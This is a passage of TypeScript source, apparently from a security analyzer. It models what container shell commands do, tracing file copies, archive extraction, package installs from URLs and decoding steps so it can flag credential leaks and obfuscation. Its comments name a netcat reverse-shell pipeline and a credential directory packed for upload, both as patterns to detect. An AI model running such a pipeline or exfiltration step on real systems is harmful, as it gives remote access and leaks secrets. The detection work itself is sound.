      ? unknown('$(openssl)')
      : withOrigins(unknown('$(openssl)'), io.stdin.origins);
  }

  copy(name: string, fields: Field[], proc: Proc): Value {
    const words = fields.map((f) => f.value.text);
    const valued =
      name === 'install'
        ? new Set(['-m', '--mode', '-o', '-g', '--owner', '--group', '-t', '--target-directory', '-S'])
        : new Set(['-t', '--target-directory', '-S', '--suffix']);
    const parsed = readOptions(words.slice(1), valued);
    const operands = parsed.operands.map((o) => o.text);
    if (operands.length < 2) return EMPTY;
    const target = optionValues(parsed, '-t', '--target-directory')[0];
    const sources = target === undefined ? operands.slice(0, -1) : operands;
    const destination = target ?? operands[operands.length - 1] ?? '';
    const executable =
      name === 'install' ? optionValues(parsed, '-m', '--mode').every((m) => /[1357]/.test(m)) : undefined;
    for (const source of sources) {
      const from = this.resolvePath(source, proc);
      const entry = this.fileAt(from) ?? imageProgram(from);
      if (entry === undefined) continue;
      const into =
        sources.length > 1 || target !== undefined || destination.endsWith('/')
          ? `${destination.replace(/\/$/, '')}/${basename(source)}`
          : destination;
      const to = this.resolvePath(into, proc);
      const verb =
        name === 'install' ? 'installs' : name === 'mv' ? 'moves' : name === 'ln' ? 'links' : 'copies';
      this.pod.files.set(to, {
        content: entry.content,
        executable: executable ?? entry.executable,
        steps: [...entry.steps, `${verb} ${source} as ${into}`],
        ...(entry.program === undefined ? {} : { program: entry.program }),
      });
      if (name === 'mv' && to !== from && entry.tree !== true) this.pod.files.delete(from);
      this.action({
        type: 'write',
        path: proc.path,
        loop: proc.loop,
        detail: short(words.join(' ')),
        file: literal(into),
        content: entry.content,
        ...(executable === true ? { executable } : {}),
      });
    }
    return EMPTY;
  }

  unpack(name: string, fields: Field[], proc: Proc, io: Io): Value {
    const words = fields.map((f) => f.value.text);
    const flags = words
      .slice(1)
      .filter((w) => w.startsWith('-') || (name === 'tar' && /^[a-zA-Z]+$/.test(w) && w === words[1]));
    const extracting =
      name !== 'tar' ||
      flags.some((f) => /x/.test(f.replace(/^--?/, '').slice(0, 12)) || f === '--extract' || f === '--get');
    if (!extracting) return this.archive(words, proc);
    let archive: string | undefined;
    if (name === 'tar') {
      for (let k = 1; k < words.length; k++) {
        const w = words[k] ?? '';
        if (w.startsWith('--file=')) archive = w.slice(7);
        else if (
          w === '--file' ||
          (/^-?[a-zA-Z]*f[a-zA-Z]*$/.test(w) && !w.startsWith('--') && (k === 1 || w.startsWith('-')))
        )
          archive = words[k + 1];
        if (archive !== undefined) break;
      }
    } else archive = words.slice(1).find((w) => !w.startsWith('-'));
    const directoryIndex = words.findIndex((w) => w === '-C' || w === '--directory' || w === '-d');
    const directory =
      directoryIndex > 0
        ? words[directoryIndex + 1]
        : words.find((w) => w.startsWith('--directory='))?.slice(12);
    const content =
      archive === undefined || archive === '-' ? (io.stdin ?? EMPTY) : this.readFile(archive, proc, name);
    const source = this.fileAt(archive === undefined ? '' : this.resolvePath(archive, proc));
    if (content.origins.length === 0) return EMPTY;
    const into = directory === undefined ? (proc.cwd ?? '.') : this.resolvePath(directory, proc);
    this.pod.files.set(into, {
      content: { text: '', exact: false, origins: content.origins },
      executable: true,
      steps: [...(source?.steps ?? []), `unpacks ${archive ?? 'stdin'} into ${into}`],
      tree: true,
    });
    return EMPTY;
  }

  /** `tar c`: the archive holds what its inputs hold (a credential directory packed for upload). */
  archive(words: readonly string[], proc: Proc): Value {
    const parsed = readOptions(
      words.slice(1),
      new Set([
        '-f',
        '--file',
        '-C',
        '--directory',
        '-T',
        '--files-from',
        '-X',
        '--exclude-from',
        '--exclude',
        '-b',
        '-H',
        '--format',
      ]),
    );
    const directory = optionValues(parsed, '-C', '--directory')[0];
    let file = optionValues(parsed, '-f', '--file')[0];
    const operands = parsed.operands
      .map((o) => o.text)
      .filter((o) => !/^[a-zA-Z]+$/.test(o) || o !== words[1]);
    // Old-style `tar czf FILE …`: the first word holds the letters, `f` takes the next operand.
    if (
      file === undefined &&
      /^[a-zA-Z]*f[a-zA-Z]*$/.test(words[1] ?? '') &&
      !(words[1] ?? '').startsWith('-')
    )
      file = operands.shift();
    const inner = directory === undefined ? proc : { ...proc, cwd: this.resolvePath(directory, proc) };
    const content = concat(operands.map((operand) => this.readTree(operand, inner, 'tar')));
    if (file !== undefined && file !== '-') {
      this.writeFile(file, content, proc, 'tar');
      return EMPTY;
    }

    return content;
  }

  packageInstall(name: string, words: readonly string[], proc: Proc): Value {
    const detail = short(`${name} ${words.join(' ')}`);
    for (const word of words) {
      if (/^(?:git\+)?https?:\/\//.test(word) || /^git\+/.test(word)) {
        const url = literal(word.replace(/^git\+/, ''));
        this.fetched(
          { type: 'fetch', path: proc.path, loop: proc.loop, detail, url, headers: [] },
          name,
          proc,
        );
        this.flowFrom({ kind: 'network', url: url.text }, 'exec', name, proc, {
          steps: [`installs a package from ${short(url.text, 120)}`],
        });
      }
    }
    return EMPTY;
  }

  // ---------------------------------------------------------------- entry

  /** Runs one entry (a container's argv, a hook, a probe). */
  runEntry(entry: Entry): void {
    const proc = this.newProc(entry.site, entry.path);
    const fields: Field[] = entry.argv.map((arg) => ({
      value: arg.value,
      split: false,
      expansions: 0,
      escaped: false,
      path: arg.path,
    }));
    const io: Io = { stdin: undefined, fds: NO_FDS, redirects: [] };
    try {
      const output = this.invoke(fields, proc, io, 0, []);
      // What reaches the container's log: a credential printed there is readable by anyone with log access.
      for (const origin of output.origins)
        if (origin.kind === 'credential')
          this.flowFrom(origin, 'log', basename(fields[0]?.value.text ?? ''), proc);
    } catch (error) {
      if (!(error instanceof LimitReached)) throw error;
    }
  }
}

/** A word known as it is (not expanded from anything). */
function plainField(value: Value): Field {
  return { value, split: false, expansions: 0, escaped: false };
}

function splitReplacement(text: string): [string, string] {
  let escaped = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (escaped) {
      escaped = false;
      continue;
    }
    if (c === '\\') escaped = true;
    else if (c === '/') return [text.slice(0, i), text.slice(i + 1)];
  }
  return [text, ''];
}

function splitIfs(text: string, ifs: string): string[] {
  // IFS whitespace runs separate fields; each other IFS character is a separator of its own.
  const white = Array.from(ifs)
    .filter((c) => /\s/.test(c))
    .map((c) => escapeRegex(c))
    .join('');
  const other = Array.from(ifs)
    .filter((c) => !/\s/.test(c))
    .map((c) => escapeRegex(c))
    .join('');
  const parts: string[] = [];
  if (white !== '') parts.push(`[${white}]*[${other === '' ? '\\u0000' : other}][${white}]*`, `[${white}]+`);
  else if (other !== '') parts.push(`[${other}]`);
  if (parts.length === 0) return [text];
  return text.split(new RegExp(parts.join('|')));
}

function escapeRegex(c: string): string {
  return c.replace(/[-\\^\][]/g, '\\$&');
}

function braceExpand(text: string): string[] {
  const open = text.indexOf('{');
  if (open < 0) return [text];
  let depth = 0;
  const commas: number[] = [];
  for (let i = open; i < text.length; i++) {
    const c = text[i];
    if (c === '{') depth++;
    else if (c === '}') {
      depth--;
      if (depth === 0) {
        if (commas.length === 0) {
          const range = /^\{(-?\d+)\.\.(-?\d+)\}$/.exec(text.slice(open, i + 1));
          if (range !== null) {
            const from = Number(range[1]);
            const to = Number(range[2]);
            const count = Math.abs(to - from) + 1;
            if (count > EXECUTION_LIMITS.maxBraceFields + 1) return [text];
            const step = from <= to ? 1 : -1;
            const out: string[] = [];
            for (let n = from; step > 0 ? n <= to : n >= to; n += step)
              out.push(`${text.slice(0, open)}${n}${text.slice(i + 1)}`);
            return out;
          }
          return [text];
        }
        const prefix = text.slice(0, open);
        const suffix = text.slice(i + 1);
        const items: string[] = [];
        let start = open + 1;
        for (const comma of commas) {
          items.push(text.slice(start, comma));
          start = comma + 1;
        }
        items.push(text.slice(start, i));
        const out: string[] = [];
        for (const item of items) {
          for (const expanded of braceExpand(`${prefix}${item}${suffix}`)) {
            out.push(expanded);
            if (out.length > EXECUTION_LIMITS.maxBraceFields) return out;
          }
        }
        return out;
      }
    } else if (c === ',' && depth === 1) commas.push(i);
  }
  return [text];
}

function arithmetic(text: string, proc: Proc): Value {
  const substituted = text.replace(/\$?\b([A-Za-z_]\w*)\b/g, (m, name: string) => {
    const value = proc.vars.get(name);
    return value?.exact === true && /^-?\d+$/.test(value.text) ? value.text : m;
  });
  if (/^[\d\s+\-*/%()]+$/.test(substituted) && substituted.length < 200) {
    const result = evaluateInteger(substituted.replace(/\s+/g, ''));
    if (result !== undefined && Number.isFinite(result)) return literal(String(result));
  }
  return unknown(`$((${text}))`);
}

/** Integer arithmetic over digits, `+ - * / %` and parentheses; undefined when malformed. */
function evaluateInteger(text: string): number | undefined {
  let i = 0;
  const primary = (): number | undefined => {
    if (text[i] === '(') {
      i++;
      const value = sum();
      if (text[i] !== ')') return undefined;
      i++;
      return value;
    }
    if (text[i] === '-' || text[i] === '+') {
      const sign = text[i++] === '-' ? -1 : 1;
      const value = primary();
      return value === undefined ? undefined : sign * value;
    }
    const match = /^\d+/.exec(text.slice(i));
    if (match === null) return undefined;
    i += match[0].length;
    return Number(match[0]);
  };
  const product = (): number | undefined => {
    let value = primary();
    while (value !== undefined && (text[i] === '*' || text[i] === '/' || text[i] === '%')) {
      const op = text[i++];
      const right = primary();
      if (right === undefined || (op !== '*' && right === 0)) return undefined;
      value = op === '*' ? value * right : op === '/' ? Math.trunc(value / right) : value % right;
    }
    return value;
  };
  const sum = (): number | undefined => {
    let value = product();
    while (value !== undefined && (text[i] === '+' || text[i] === '-')) {
      const op = text[i++];
      const right = product();
      if (right === undefined) return undefined;
      value = op === '+' ? value + right : value - right;
    }
    return value;
  };
  const value = sum();
  return i === text.length ? value : undefined;
}

/** How a run file is named in a flow's steps: its absolute path when known, else as written. */
function ranAs(written: string, resolved: string): string {
  return resolved.startsWith('/') ? resolved : written;
}

function shellQuote(text: string): string {
  return /^[\w@%+=:,./-]+$/.test(text) ? text : `'${text.replace(/'/g, `'\\''`)}'`;
}

function literalOrUnknown(text: string, origins: readonly Origin[] = []): Value {
  return text.includes('$') ? unknown(text, origins) : literal(text);
}

function valueOfWord(fields: Field[], index: number | undefined): Value {
  return index === undefined ? EMPTY : (fields[index]?.value ?? EMPTY);
}

function pathDirs(proc: Proc): string[] {
  const path = proc.vars.get('PATH');
  const dirs = path?.exact === true ? path.text.split(':').filter((d) => d !== '') : [...DEFAULT_PATH];
  return proc.cwd === undefined ? dirs : dirs;
}

/** The encoding a decoding command undoes; undefined when the command does not decode. */
function decoderOf(name: string, words: readonly string[]): ShellEncoding | undefined {
  const flags = words.slice(1);
  const decodeFlag = flags.some(
    (w) => w === '-d' || w === '--decode' || w === '-D' || (/^-[a-zA-Z]+$/.test(w) && w.includes('d')),
  );
  if ((name === 'base64' || name === 'gbase64') && decodeFlag) return 'base64';
  if (name === 'base32' && decodeFlag) return 'base32';
  if (name === 'basenc' && decodeFlag)
    return flags.includes('--base32') ? 'base32' : flags.includes('--base16') ? 'hex' : 'base64';
  if (name === 'xxd' && flags.some((w) => /^-r/.test(w) || w === '-revert')) return 'hex';
  if (name === 'rev') return 'reverse';
  if (name === 'tr') {
    const sets = flags.filter((w) => !w.startsWith('-'));
    const [from = '', to = ''] = sets;
    if (/^(?:\[?A-Za-z\]?|a-zA-Z)$/.test(from) && /N-ZA-Mn-za-m|n-za-mN-ZA-M/.test(to)) return 'rot13';
    return undefined;
  }
  if (name === 'gunzip' || name === 'zcat' || (name === 'gzip' && decodeFlag)) return 'gzip';
  return undefined;
}

/** What a container runs, as the model sees it. */
export function execute(
  entries: readonly Entry[],
  env: ReadonlyMap<string, Value>,
  pod: PodState,
): Execution {
  const first = new Executor(pod, env);
  // A fifo read before it was written (`cat f | sh | nc h p > f`): a second pass sees what was written.
  const snapshot: [string, FileEntry][] = [];
  for (const [k, v] of pod.files) snapshot.push([k, { ...v }]);
  for (const entry of entries) first.runEntry(entry);
  let executor = first;
  if (first.fifoWritten) {
    const fifos = [...pod.files].filter(([, v]) => v.fifo === true);
    pod.files.clear();
    for (const [k, v] of snapshot) pod.files.set(k, v);
    for (const [k, v] of fifos) pod.files.set(k, { ...v });
    executor = new Executor(pod, env);
    for (const entry of entries) executor.runEntry(entry);
    for (const limit of first.rec.limits) executor.rec.limit(limit);
  }
  const rec = executor.rec;
  return {
    invocations: rec.invocations,
    actions: rec.actions,
    flows: rec.flows,
    obfuscation: rec.obfuscation,
    scripts: rec.scripts,
    limits: rec.limits,
    problems: rec.problems,
  };
}
